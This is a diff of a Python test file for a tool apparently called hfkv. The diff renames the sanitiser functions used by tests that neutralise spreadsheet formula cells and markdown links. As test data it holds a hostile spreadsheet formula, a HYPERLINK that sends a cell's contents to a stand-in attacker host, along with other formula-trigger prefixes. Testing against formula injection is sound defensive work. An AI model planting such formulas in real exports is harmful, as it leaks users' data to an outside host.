@@ -11,20 +11,19 @@ import pytest
 from click.testing import CliRunner
 
 from hfkv.commands.cli import main
-from hfkv.commands.scan import csv_text
-from hfkv.render.terminal import md_escape
+from hfkv.text import markdown_cell, spreadsheet_cell
 
 HOSTILE = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
 
 
 @pytest.mark.parametrize("cell", [HOSTILE, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"])
 def test_formula_cells_are_quoted(cell):
-    assert csv_text(cell).startswith("'")
+    assert spreadsheet_cell(cell).startswith("'")
 
 
 @pytest.mark.parametrize("cell", ["llama", "org/name", "1e3", "qwen3_next"])
 def test_plain_cells_are_left_alone(cell):
-    assert csv_text(cell) == cell
+    assert spreadsheet_cell(cell) == cell
 
 
 def test_scan_csv_of_a_hostile_config_is_inert(tmp_path):
@@ -52,5 +51,5 @@ def test_scan_csv_of_a_hostile_config_is_inert(tmp_path):
 def test_markdown_has_no_live_link_or_image(text):
     from markdown_it import MarkdownIt  # rich's Markdown parser: a CommonMark renderer
 
-    html = MarkdownIt("commonmark").render(f"| cell |\n|---|\n| {md_escape(text)} |\n")
+    html = MarkdownIt("commonmark").render(f"| cell |\n|---|\n| {markdown_cell(text)} |\n")
     assert "<a " not in html and "<img" not in html and "attacker.example" in html
